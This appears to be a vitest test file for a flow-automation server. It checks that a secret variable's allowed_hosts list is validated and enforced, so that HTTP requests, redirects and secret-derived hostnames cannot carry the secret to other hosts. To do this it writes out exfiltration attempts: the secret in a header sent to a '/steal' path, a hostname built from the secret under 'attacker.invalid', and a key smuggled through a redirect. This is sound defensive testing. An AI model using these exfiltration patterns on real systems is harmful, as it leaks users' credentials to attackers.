import http from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestApp, restClient } from "@/test/app";
import { signUp } from "@/test/accounts";
import { connect, startHub, type TestSocket } from "@/test/ws";
import type { AppServices } from "@/server/app-services";

/**
 * A secret's allowed_hosts (SPEC §14): set with the value by admins, returned (it is not secret),
 * and enforced by http-request before anything connects: a request (or a redirect) to another
 * host is the node's error, without the value, and nothing reaches that host.
 * Both backends: DATABASE_URL / REDIS_URL switch this file to PostgreSQL and Redis.
 */

const PAYKEY = "paykey-value-4c7e91d2";

let app: AppServices;
let hub: Awaited<ReturnType<typeof startHub>>;
let request: ReturnType<typeof restClient>;

/** The allowed host (127.0.0.1): records the key it was sent; /redirect sends the client to the other host. */
const seenKeys: string[] = [];
let otherUrl = "";
const allowed = http.createServer((req, res) => {
  seenKeys.push(String(req.headers["x-key"] ?? new URL(req.url ?? "/", "http://x").searchParams.get("key") ?? ""));
  if (req.url?.startsWith("/redirect")) {
    res.writeHead(302, { location: `${otherUrl}/landing` }).end();
    return;
  }
  res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ ok: true }));
});
/** Another host (127.0.0.2, loopback too): counts every connection made to it. */
let otherConnections = 0;
const other = http.createServer((_req, res) => res.writeHead(200).end("other"));
other.on("connection", (_socket: Socket) => {
  otherConnections++;
});
let allowedUrl = "";

beforeAll(async () => {
  await new Promise<void>((resolve) => allowed.listen(0, "127.0.0.1", resolve));
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.2", resolve));
  allowedUrl = `http://127.0.0.1:${(allowed.address() as AddressInfo).port}`;
  otherUrl = `http://127.0.0.2:${(other.address() as AddressInfo).port}`;
  app = await createTestApp({ HTTP_REQUEST_ALLOW_PRIVATE: "true" });
  hub = await startHub(app);
  request = restClient(app);
});

afterAll(async () => {
  await hub?.close();
  await app?.close();
  await new Promise<void>((resolve) => allowed.close(() => resolve()));
  await new Promise<void>((resolve) => other.close(() => resolve()));
});

describe("allowed_hosts over REST", () => {
  it("is accepted for a secret, returned, replaced, kept, and removed with null; audited without the value", async () => {
    const owner = await signUp(request);
    const token = owner.accessToken;
    const created = await request("POST", "/variables", { token, body: { name: "PAYKEY", value: PAYKEY, secret: true, allowed_hosts: ["API.Example.com", "*.example.org", "api.example.com", "10.1.2.3"] } });
    expect(created.status).toBe(201);
    expect(created.body.variable).toMatchObject({ name: "PAYKEY", secret: true, allowed_hosts: ["api.example.com", "*.example.org", "10.1.2.3"] });
    expect(created.text).not.toContain(PAYKEY);
    const plain = await request("POST", "/variables", { token, body: { name: "PLAIN", value: "p" } });
    expect(plain.body.variable.allowed_hosts).toBeNull();

    const list = await request("GET", "/variables", { token });
    expect(list.body.variables.find((v: { name: string }) => v.name === "PAYKEY").allowed_hosts).toEqual(["api.example.com", "*.example.org", "10.1.2.3"]);

    // A new value without allowed_hosts keeps them; a list replaces them; null removes them.
    const kept = await request("PUT", "/variables/PAYKEY", { token, body: { value: `${PAYKEY}-2` } });
    expect(kept.body.variable.allowed_hosts).toEqual(["api.example.com", "*.example.org", "10.1.2.3"]);
    const replaced = await request("PUT", "/variables/PAYKEY", { token, body: { value: PAYKEY, allowed_hosts: ["pay.example.net"] } });
    expect(replaced.status).toBe(200);
    expect(replaced.body.variable.allowed_hosts).toEqual(["pay.example.net"]);
    const removed = await request("PUT", "/variables/PAYKEY", { token, body: { value: PAYKEY, allowed_hosts: null } });
    expect(removed.body.variable.allowed_hosts).toBeNull();
    // Turned into a plain variable: it has none.
    await request("PUT", "/variables/PAYKEY", { token, body: { value: PAYKEY, allowed_hosts: ["pay.example.net"] } });
    const unsecret = await request("PUT", "/variables/PAYKEY", { token, body: { value: "now plain", secret: false } });
    expect(unsecret.body.variable).toMatchObject({ secret: false, allowed_hosts: null });

    const audit = await request("GET", "/audit-log?limit=50", { token });
    expect(audit.status).toBe(200);
    expect(audit.text).not.toContain(PAYKEY);
    const updates = audit.body.entries.filter((e: { action: string }) => e.action === "variable.updated").map((e: { metadata: Record<string, unknown> }) => e.metadata.hosts_changed ?? false);
    expect(updates).toEqual([true, true, true, true, false]);
  });

  it("refuses bad patterns, a non-secret with hosts and more than 20 with 400 VALIDATION_FAILED, changing nothing", async () => {
    const owner = await signUp(request);
    const token = owner.accessToken;
    const bad: unknown[] = [
      [],
      ["*"],
      ["*.com"],
      ["api.*.example.com"],
      ["https://api.example.com"],
      ["api.example.com:443"],
      ["api.example.com/path"],
      ["::1"],
      ["*.10.0.0.1"],
      ["bad_host.example.com"],
      [""],
      "api.example.com",
      Array.from({ length: 21 }, (_, i) => `h${i}.example.com`),
    ];
    for (const allowed_hosts of bad) {
      const res = await request("POST", "/variables", { token, body: { name: "PAYKEY", value: PAYKEY, secret: true, allowed_hosts } });
      expect(res.status, JSON.stringify(allowed_hosts)).toBe(400);
      expect(res.body.error.code).toBe("VALIDATION_FAILED");
      expect(res.text).not.toContain(PAYKEY);
    }
    const notSecret = await request("POST", "/variables", { token, body: { name: "PLAIN", value: "x", allowed_hosts: ["api.example.com"] } });
    expect(notSecret.status).toBe(400);
    expect(notSecret.body.error).toMatchObject({ code: "VALIDATION_FAILED" });
    expect(JSON.stringify(notSecret.body.error)).toContain("allowed_hosts");
    expect((await request("GET", "/variables", { token })).body.variables).toEqual([]);

    await request("POST", "/variables", { token, body: { name: "PLAIN", value: "x" } });
    const putPlain = await request("PUT", "/variables/PLAIN", { token, body: { value: "y", allowed_hosts: ["api.example.com"] } });
    expect(putPlain.status).toBe(400);
    expect(putPlain.body.error.code).toBe("VALIDATION_FAILED");
    const unchanged = (await request("GET", "/variables", { token })).body.variables[0];
    expect(unchanged).toMatchObject({ name: "PLAIN", value: "x", allowed_hosts: null });

    await request("POST", "/variables", { token, body: { name: "PAYKEY", value: PAYKEY, secret: true } });
    expect((await request("PUT", "/variables/PAYKEY", { token, body: { value: PAYKEY, allowed_hosts: ["*"] } })).status).toBe(400);
    expect((await request("GET", "/variables", { token })).body.variables.find((v: { name: string }) => v.name === "PAYKEY").allowed_hosts).toBeNull();
  });
});

describe("allowed_hosts in http-request", () => {
  async function deployFlow(token: string, nodes: Array<Record<string, unknown>>, connections: Array<{ source: string; target: string }>) {
    const flow = await request("POST", "/flows", { token, body: { name: `allowed hosts ${Date.now()}`, nodes, connections } });
    expect(flow.status).toBe(201);
    expect((await request("POST", `/flows/${flow.body.flow.id}/deploy`, { token })).status).toBe(200);
    return flow.body.flow.id as string;
  }

  /** inject → http-request(url, X-Key header) → debug, and a catch node for its errors → debug. */
  function requestFlow(prefix: string, url: string, headers: Record<string, string>) {
    return {
      nodes: [
        { id: `${prefix}_in`, type: "inject", position: { x: 0, y: 0 }, config: {} },
        { id: `${prefix}_req`, type: "http-request", position: { x: 200, y: 0 }, config: { url, headers, return: "txt", errors_to_catch_only: true } },
        { id: `${prefix}_ok`, type: "debug", position: { x: 400, y: 0 }, config: { property: "msg", to_status: false } },
        { id: `${prefix}_catch`, type: "catch", position: { x: 0, y: 100 }, config: {} },
        { id: `${prefix}_err`, type: "debug", position: { x: 400, y: 100 }, config: { property: "error", to_status: false } },
      ],
      connections: [
        { source: `${prefix}_in`, target: `${prefix}_req` },
        { source: `${prefix}_req`, target: `${prefix}_ok` },
        { source: `${prefix}_catch`, target: `${prefix}_err` },
      ],
    };
  }

  async function run(socket: TestSocket, token: string, prefix: string) {
    const from = socket.frames.length;
    expect((await request("POST", `/nodes/${prefix}_in/inject`, { token, body: {} })).status).toBe(200);
    return socket.next((f) => socket.frames.indexOf(f) >= from && f.topic === "debug" && (f.data?.node_id === `${prefix}_ok` || f.data?.node_id === `${prefix}_err`));
  }

  it("hands the secret to its allowed host, refuses another host (also by DNS name or redirect) before connecting, without the value", async () => {
    const owner = await signUp(request);
    const token = owner.accessToken;
    const socket = connect(hub.url, { authorization: `Bearer ${token}` });
    await socket.next((f) => f.type === "ready");
    expect((await request("POST", "/variables", { token, body: { name: "PAYKEY", value: PAYKEY, secret: true, allowed_hosts: ["127.0.0.1"] } })).status).toBe(201);
    expect((await request("POST", "/variables", { token, body: { name: "OPENKEY", value: "open-key-value-1d2c", secret: true } })).status).toBe(201);

    const ok = requestFlow("ah1", `${allowedUrl}/data`, { "X-Key": "${PAYKEY}" });
    const forbidden = requestFlow("ah2", `${otherUrl}/steal`, { "X-Key": "${PAYKEY}" });
    const dns = requestFlow("ah3", "http://pk-${PAYKEY}.attacker.invalid/", {});
    const redirected = requestFlow("ah4", `${allowedUrl}/redirect?key=\${PAYKEY}`, { "User-Agent": "agent ${PAYKEY}" });
    const unrestricted = requestFlow("ah5", `${otherUrl}/open`, { "X-Key": "${OPENKEY}" });
    await deployFlow(token, [...ok.nodes, ...forbidden.nodes, ...dns.nodes, ...redirected.nodes, ...unrestricted.nodes], [...ok.connections, ...forbidden.connections, ...dns.connections, ...redirected.connections, ...unrestricted.connections]);

    // The allowed host gets the value.
    const first = await run(socket, token, "ah1");
    expect(first.data.node_id).toBe("ah1_ok");
    expect(first.data.msg.statusCode).toBe(200);
    expect(seenKeys).toEqual([PAYKEY]);

    // Another host: the node's error, without the value, and no connection at all.
    const second = await run(socket, token, "ah2");
    expect(second.data.node_id).toBe("ah2_err");
    expect(JSON.stringify(second.data.msg)).toContain("secret PAYKEY may only be sent to 127.0.0.1");
    expect(otherConnections).toBe(0);

    // A host name built from the secret: refused before any DNS lookup (no ENOTFOUND), value not said.
    const third = await run(socket, token, "ah3");
    expect(third.data.node_id).toBe("ah3_err");
    expect(JSON.stringify(third.data.msg)).toContain("secret PAYKEY may only be sent to 127.0.0.1");
    expect(JSON.stringify(third.data.msg)).not.toContain("ENOTFOUND");

    // A redirect from the allowed host to another: not followed.
    const fourth = await run(socket, token, "ah4");
    expect(fourth.data.node_id).toBe("ah4_err");
    expect(JSON.stringify(fourth.data.msg)).toContain("the redirect to 127.0.0.2 was not followed");
    expect(seenKeys).toEqual([PAYKEY, PAYKEY]);
    expect(otherConnections).toBe(0);

    // The other host is reachable: a secret without allowed hosts still goes there.
    const fifth = await run(socket, token, "ah5");
    expect(fifth.data.node_id).toBe("ah5_ok");
    expect(otherConnections).toBe(1);

    const frames = socket.frames.map((f) => JSON.stringify(f)).join("\n");
    expect(frames).not.toContain(PAYKEY);
    expect(frames).not.toContain(PAYKEY.slice(0, 12));
    socket.ws.close();
  });
});
